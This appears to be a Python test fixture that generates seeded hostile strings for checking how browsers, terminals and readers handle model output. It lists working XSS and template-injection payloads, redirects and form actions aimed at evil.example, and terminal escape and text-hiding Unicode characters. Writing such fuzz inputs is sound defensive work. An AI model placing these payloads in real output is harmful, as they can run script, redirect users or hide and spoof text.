"""What a model may come to say that means a browser, a terminal or a reader ill; made here from a seed."""

import random

MARKUP = (
    "<script>window.pwned = 1</script>",
    "<img src=x onerror='window.pwned = 1'>",
    "<svg onload=window.pwned=1>",
    "<iframe srcdoc='<script>parent.pwned = 1</script>'></iframe>",
    "</textarea><script>pwned = 1</script>",
    "]]><!--<math><mi//xlink:href='data:x,<script>pwned=1</script>'>",
    "<a href='javascript:pwned=1'>come</a>",
    "<style>* { display: none }</style>",
    "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><button>go",
    "{{constructor.constructor('pwned=1')()}}",
    "${window.pwned = 1}",
    "javascript:pwned=1",
    "\"' onmouseover=pwned=1 x='",
    "&lt;script&gt;pwned=1&lt;/script&gt;",
)
SIGNS = ("\u202e", "\u2066", "\u200b", "\u200f", "\ufeff", "\x00", "\x1b[31m", "\x1b]8;;http://evil.example\x07",
         "\x7f", "\x9b2J", "\u2028", "\r", "\b" * 40, "\U000e0041", "\ud83d", "\u0301" * 300)  # fmt: skip


def hostile(count: int = 200, seed: int = 0) -> list[str]:
    """So many texts: markup, signs that turn or hide, both at once, and some that are huge."""
    draw = random.Random(seed)
    texts = [*MARKUP, *SIGNS, "x" * 30_000, "<b>" * 10_000, "\n" * 2_000, "מ" * 500, ""]
    while len(texts) < count:
        texts.append("".join(draw.choice(draw.choice((MARKUP, SIGNS))) for _ in range(draw.randint(2, 5))))
    return texts[:count]
